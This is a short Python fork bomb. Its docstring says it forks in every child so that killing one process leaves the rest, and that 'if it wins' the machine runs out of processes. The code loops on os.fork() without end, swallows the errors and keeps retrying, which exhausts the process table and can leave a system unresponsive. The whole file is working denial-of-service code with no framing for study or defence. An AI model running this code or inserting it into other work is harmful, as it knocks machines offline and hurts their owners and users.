"""Forks in every child too, so that killing one leaves the rest.

If it wins: the machine runs out of processes.
"""

import os
from contextlib import suppress

with suppress(OSError):  # no more processes, for now
    while True:
        os.fork()
while True:
    try:
        os.fork()
    except OSError:
        continue
